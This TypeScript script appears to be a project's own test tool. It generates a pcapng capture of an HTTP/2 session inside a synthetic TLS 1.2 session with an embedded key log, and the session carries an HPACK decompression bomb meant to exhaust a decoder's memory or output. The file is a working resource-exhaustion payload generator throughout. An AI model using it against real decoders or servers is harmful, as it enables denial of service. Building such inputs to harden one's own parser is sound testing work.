// An attack on HTTP/2 header decoding (HPACK, RFC 7541): one header block puts a large value in the
// dynamic table, and every block after it is a run of one-byte references to that entry, so that
// each byte on the wire decodes to the whole value. A decoder that follows a dynamic table size
// update to any size, keeps every decoded field, and prints them all turns a few megabytes of capture
// into gigabytes of output, or into strings longer than V8 allows.
//
// The HTTP/2 bytes travel in a real TLS 1.2 session (TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, RFC 5288)
// whose records are sealed here with keys derived from a fixed master secret; the key log line
// (CLIENT_RANDOM …) rides in the pcapng's Decryption Secrets Block, so tcpwatch decrypts the capture
// with no other file. The handshake carries no key exchange: nothing in it is needed to decrypt.
//
//   node dist/scripts/attacks/hpack-bomb.js OUT.pcapng [MEGABYTES] [--within-limits]
//
// By default the first block sets the table size to 2^30 and stores a 256 KiB value. With
// --within-limits it stays inside RFC 9113's default 4096-byte table (a 4000-byte value), which a
// decoder must accept: the amplification then comes from the number of references alone.

import * as fs from 'node:fs';
import { createCipheriv, createHmac } from 'node:crypto';

export interface HpackBombOptions {
  /** Size of the capture to aim at (bytes of TLS application data), default 2 MiB. */
  bytes?: number;
  /** Dynamic table size update sent first (RFC 7541 §6.3); null for none. Default 2^30. */
  tableSizeUpdate?: number | null;
  /** Length of the header value stored in the dynamic table. Default 256 KiB. */
  valueBytes?: number;
  /** One-byte references to it per header block. Default 500. */
  refsPerBlock?: number;
}

/** The bomb inside TLS defaults to the standard's own table and a value that fits it. */
export const WITHIN_LIMITS: HpackBombOptions = { tableSizeUpdate: null, valueBytes: 4000 };

// ---- HTTP/2 (RFC 9113) and HPACK (RFC 7541) ----

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1, SETTINGS = 0x4;
const END_STREAM = 0x1, END_HEADERS = 0x4;
/** Index of the newest dynamic table entry: right after the 61 static ones (RFC 7541 §2.3.3). */
const NEWEST_DYNAMIC = 62;

/** One HTTP/2 frame: its 9-byte header (RFC 9113 §4.1), then the payload. */
export function h2frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

/** RFC 7541 §5.1 integer with an N-bit prefix, the first byte's high bits `pattern`. */
function hpackInt(v: number, prefixBits: number, pattern: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (v < max) return Buffer.from([pattern | v]);
  const out = [pattern | max];
  v -= max;
  while (v >= 128) {
    out.push((v % 128) | 0x80);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}

/** A raw (not Huffman-coded) string literal, RFC 7541 §5.2. */
const hpackString = (s: Buffer): Buffer => Buffer.concat([hpackInt(s.length, 7, 0), s]);

/** The client's side of the HTTP/2 connection: preface, SETTINGS, the seeding block, then reference blocks. */
export function bombHttp2Bytes(o: HpackBombOptions = {}): Buffer {
  const target = o.bytes ?? 2 * 1024 * 1024;
  const tableSizeUpdate = o.tableSizeUpdate === undefined ? 2 ** 30 : o.tableSizeUpdate;
  const valueBytes = o.valueBytes ?? 256 * 1024;
  const refs = o.refsPerBlock ?? 500;
  const parts: Buffer[] = [PREFACE, h2frame(SETTINGS, 0, 0, Buffer.alloc(0))];
  const seed = Buffer.concat([
    tableSizeUpdate === null ? Buffer.alloc(0) : hpackInt(tableSizeUpdate, 5, 0x20),
    Buffer.from([0x82, 0x87, 0x84]), // :method GET, :scheme https, :path /
    hpackInt(0, 6, 0x40), hpackString(Buffer.from('x-bomb')), hpackString(Buffer.alloc(valueBytes, 0x61)), // literal, incremental indexing
  ]);
  parts.push(h2frame(HEADERS, END_HEADERS | END_STREAM, 1, seed));
  let size = parts.reduce((a, b) => a + b.length, 0);
  const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x84]), Buffer.alloc(refs, 0x80 | NEWEST_DYNAMIC)]);
  for (let stream = 3; size < target; stream += 2) {
    const f = h2frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    parts.push(f);
    size += f.length;
  }
  return Buffer.concat(parts);
}

// ---- TLS 1.2 with AES-128-GCM (RFC 5246, RFC 5288) ----

const CT_CHANGE_CIPHER_SPEC = 20, CT_HANDSHAKE = 22, CT_APPLICATION_DATA = 23;
const TLS12 = 0x0303;
const SUITE = 0xc02f; // TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256
const MAX_PLAINTEXT = 16384; // RFC 5246 §6.2.1
const CLIENT_RANDOM = Buffer.from('c1'.repeat(32), 'hex');
const SERVER_RANDOM = Buffer.from('5e'.repeat(32), 'hex');
const MASTER_SECRET = Buffer.from('3a'.repeat(48), 'hex');

/** P_SHA256 (RFC 5246 §5). */
function prf(secret: Buffer, label: string, seed: Buffer, length: number): Buffer {
  const s = Buffer.concat([Buffer.from(label, 'latin1'), seed]);
  const out: Buffer[] = [];
  let a = s;
  let n = 0;
  while (n < length) {
    a = createHmac('sha256', secret).update(a).digest();
    const block = createHmac('sha256', secret).update(Buffer.concat([a, s])).digest();
    out.push(block);
    n += block.length;
  }
  return Buffer.concat(out).subarray(0, length);
}

function record(type: number, fragment: Buffer): Buffer {
  const h = Buffer.alloc(5);
  h[0] = type;
  h.writeUInt16BE(TLS12, 1);
  h.writeUInt16BE(fragment.length, 3);
  return Buffer.concat([h, fragment]);
}

function handshakeMsg(type: number, body: Buffer): Buffer {
  const h = Buffer.alloc(4);
  h[0] = type;
  h.writeUIntBE(body.length, 1, 3);
  return Buffer.concat([h, body]);
}

/** One direction's write state after ChangeCipherSpec: AES-128-GCM with an explicit nonce (RFC 5288 §3). */
class Sealer {
  private seq = 0;
  constructor(private readonly key: Buffer, private readonly salt: Buffer) {}

  seal(type: number, plain: Buffer): Buffer {
    const explicit = Buffer.alloc(8);
    explicit.writeUInt32BE(Math.floor(this.seq / 2 ** 32), 0);
    explicit.writeUInt32BE(this.seq >>> 0, 4);
    const aad = Buffer.alloc(13);
    explicit.copy(aad, 0); // seq_num, the same 8 bytes here
    aad[8] = type;
    aad.writeUInt16BE(TLS12, 9);
    aad.writeUInt16BE(plain.length, 11);
    const c = createCipheriv('aes-128-gcm', this.key, Buffer.concat([this.salt, explicit]));
    c.setAAD(aad);
    const sealed = Buffer.concat([explicit, c.update(plain), c.final(), c.getAuthTag()]);
    this.seq++;
    return record(type, sealed);
  }
}

export interface TlsSession {
  /** Bytes each side sends, as TLS records, in the order of the exchange. */
  client: Buffer[];
  server: Buffer[];
  /** SSLKEYLOGFILE line for the session. */
  keylog: string;
}

/** A TLS Client Hello handshake message offering SUITE, with a server name and ALPN "h2" (also read inside QUIC Initials). */
export function clientHelloMessage(random: Buffer = CLIENT_RANDOM, serverName = 'bomb.example'): Buffer {
  const alpn = Buffer.from([0x00, 0x10, 0x00, 0x05, 0x00, 0x03, 0x02, 0x68, 0x32]); // ALPN "h2"
  const name = Buffer.from(serverName, 'latin1');
  const sni = Buffer.alloc(9 + name.length); // server_name (RFC 6066 §3): one host_name entry
  sni.writeUInt16BE(0, 0);
  sni.writeUInt16BE(5 + name.length, 2);
  sni.writeUInt16BE(3 + name.length, 4);
  sni[6] = 0;
  sni.writeUInt16BE(name.length, 7);
  name.copy(sni, 9);
  const exts = Buffer.concat([sni, alpn]);
  const extLen = Buffer.alloc(2);
  extLen.writeUInt16BE(exts.length);
  return handshakeMsg(1, Buffer.concat([
    Buffer.from([0x03, 0x03]), random, Buffer.from([0]), // no session id
    Buffer.from([0x00, 0x02, SUITE >> 8, SUITE & 0xff]), Buffer.from([0x01, 0x00]),
    extLen, exts,
  ]));
}

/**
 * A TLS 1.2 session whose client, after the handshake, sends `appData` as application data records,
 * and whose server then sends `serverData`.
 */
export function tls12Session(appData: Buffer, serverData: Buffer = Buffer.alloc(0)): TlsSession {
  const block = prf(MASTER_SECRET, 'key expansion', Buffer.concat([SERVER_RANDOM, CLIENT_RANDOM]), 2 * (16 + 4));
  const clientSealer = new Sealer(block.subarray(0, 16), block.subarray(32, 36));
  const serverSealer = new Sealer(block.subarray(16, 32), block.subarray(36, 40));
  const clientHello = clientHelloMessage();
  const serverHello = handshakeMsg(2, Buffer.concat([
    Buffer.from([0x03, 0x03]), SERVER_RANDOM, Buffer.from([0]), Buffer.from([SUITE >> 8, SUITE & 0xff, 0x00]),
  ]));
  const serverHelloDone = handshakeMsg(14, Buffer.alloc(0));
  const ccs = record(CT_CHANGE_CIPHER_SPEC, Buffer.from([1]));
  const finished = (side: string) => handshakeMsg(20, prf(MASTER_SECRET, `${side} finished`, Buffer.alloc(32), 12));
  const client = [record(CT_HANDSHAKE, clientHello), ccs, clientSealer.seal(CT_HANDSHAKE, finished('client'))];
  const server = [record(CT_HANDSHAKE, Buffer.concat([serverHello, serverHelloDone])), ccs, serverSealer.seal(CT_HANDSHAKE, finished('server'))];
  for (let p = 0; p < appData.length; p += MAX_PLAINTEXT) {
    client.push(clientSealer.seal(CT_APPLICATION_DATA, appData.subarray(p, p + MAX_PLAINTEXT)));
  }
  for (let p = 0; p < serverData.length; p += MAX_PLAINTEXT) {
    server.push(serverSealer.seal(CT_APPLICATION_DATA, serverData.subarray(p, p + MAX_PLAINTEXT)));
  }
  return { client, server, keylog: `CLIENT_RANDOM ${CLIENT_RANDOM.toString('hex')} ${MASTER_SECRET.toString('hex')}\n` };
}

// ---- TCP over IPv4 over Ethernet, in pcapng with a Decryption Secrets Block ----

const SYN = 0x02, ACK = 0x10, PSH = 0x08;

function tcpFrame(fromClient: boolean, seq: number, ack: number, flags: number, payload: Buffer, clientPort: number): Buffer {
  const f = Buffer.alloc(14 + 20 + 20 + payload.length);
  Buffer.from(fromClient ? '020000000002020000000001' : '020000000001020000000002', 'hex').copy(f, 0);
  f.writeUInt16BE(0x0800, 12);
  f[14] = 0x45;
  f.writeUInt16BE(40 + payload.length, 16);
  f[22] = 64;
  f[23] = 6;
  f.writeUInt32BE(fromClient ? 0x0a000001 : 0x0a000002, 26);
  f.writeUInt32BE(fromClient ? 0x0a000002 : 0x0a000001, 30);
  f.writeUInt16BE(fromClient ? clientPort : 443, 34);
  f.writeUInt16BE(fromClient ? 443 : clientPort, 36);
  f.writeUInt32BE(seq >>> 0, 38);
  f.writeUInt32BE(ack >>> 0, 42);
  f.writeUInt16BE((5 << 12) | flags, 46);
  f.writeUInt16BE(65535, 48);
  payload.copy(f, 54);
  return f;
}

/**
 * The session as Ethernet/IPv4/TCP frames from 10.0.0.1:`clientPort` to 10.0.0.2:443: TCP handshake,
 * then each record in a segment of its own; the server's application data after the client's.
 */
export function tlsSessionFrames(s: TlsSession, clientPort = 51000): Buffer[] {
  let cSeq = 1000, sSeq = 9000;
  const frames = [
    tcpFrame(true, cSeq++, 0, SYN, Buffer.alloc(0), clientPort),
    tcpFrame(false, sSeq++, cSeq, SYN | ACK, Buffer.alloc(0), clientPort),
    tcpFrame(true, cSeq, sSeq, ACK, Buffer.alloc(0), clientPort),
  ];
  const send = (fromClient: boolean, r: Buffer) => {
    if (fromClient) {
      frames.push(tcpFrame(true, cSeq, sSeq, PSH | ACK, r, clientPort));
      cSeq += r.length;
    } else {
      frames.push(tcpFrame(false, sSeq, cSeq, PSH | ACK, r, clientPort));
      sSeq += r.length;
    }
  };
  send(true, s.client[0]); // Client Hello
  send(false, s.server[0]); // Server Hello, Server Hello Done
  send(true, Buffer.concat([s.client[1], s.client[2]])); // ChangeCipherSpec, Finished
  send(false, Buffer.concat([s.server[1], s.server[2]]));
  for (let i = 3; i < s.client.length; i++) send(true, s.client[i]);
  for (let i = 3; i < s.server.length; i++) send(false, s.server[i]);
  return frames;
}

function block(type: number, body: Buffer): Buffer {
  const padded = (body.length + 3) & ~3;
  const b = Buffer.alloc(12 + padded);
  b.writeUInt32LE(type, 0);
  b.writeUInt32LE(b.length, 4);
  body.copy(b, 8);
  b.writeUInt32LE(b.length, b.length - 4);
  return b;
}

/** pcapng: Section Header, Interface Description (Ethernet), Decryption Secrets (the key log), Enhanced Packets. */
export function pcapngWithKeylog(frames: Buffer[], keylog: string): Buffer {
  const shb = Buffer.alloc(16);
  shb.writeUInt32LE(0x1a2b3c4d, 0); // byte-order magic
  shb.writeUInt16LE(1, 4);
  shb.writeUInt16LE(0, 6);
  shb.writeInt32LE(-1, 8); // section length unknown
  shb.writeInt32LE(-1, 12);
  const idb = Buffer.alloc(8);
  idb.writeUInt16LE(1, 0); // LINKTYPE_ETHERNET
  idb.writeUInt32LE(0, 4); // no snapshot length limit
  const keys = Buffer.from(keylog, 'latin1');
  const dsbHead = Buffer.alloc(8);
  dsbHead.writeUInt32LE(0x544c534b, 0); // 'TLSK': TLS key log
  dsbHead.writeUInt32LE(keys.length, 4);
  const parts = [block(0x0a0d0d0a, shb), block(0x00000001, idb), block(0x0000000a, Buffer.concat([dsbHead, keys]))];
  frames.forEach((f, i) => {
    const h = Buffer.alloc(20);
    const usec = 1_700_000_000 * 1e6 + i * 100;
    h.writeUInt32LE(0, 0); // interface 0
    h.writeUInt32LE(Math.floor(usec / 2 ** 32), 4);
    h.writeUInt32LE(usec % 2 ** 32, 8);
    h.writeUInt32LE(f.length, 12);
    h.writeUInt32LE(f.length, 16);
    parts.push(block(0x00000006, Buffer.concat([h, f])));
  });
  return Buffer.concat(parts);
}

/** The whole bomb: a pcapng that decrypts by itself to an HTTP/2 connection whose blocks expand without bound. */
export function hpackBombPcapng(o: HpackBombOptions = {}): Buffer {
  const s = tls12Session(bombHttp2Bytes(o));
  return pcapngWithKeylog(tlsSessionFrames(s), s.keylog);
}

if (require.main === module) {
  const args = process.argv.slice(2);
  const within = args.includes('--within-limits');
  const [out, mb] = args.filter((a) => a !== '--within-limits');
  if (out === undefined || (mb !== undefined && !(Number(mb) > 0))) {
    process.stderr.write('usage: hpack-bomb OUT.pcapng [MEGABYTES] [--within-limits]\n');
    process.exit(2);
  }
  const bytes = Math.round((mb === undefined ? 2 : Number(mb)) * 1024 * 1024);
  const file = hpackBombPcapng({ ...(within ? WITHIN_LIMITS : {}), bytes });
  fs.writeFileSync(out, file);
  process.stdout.write(`${out}: ${file.length} bytes, HTTP/2 in TLS 1.2 with its key log${within ? ', within the default table size' : ''}\n`);
}
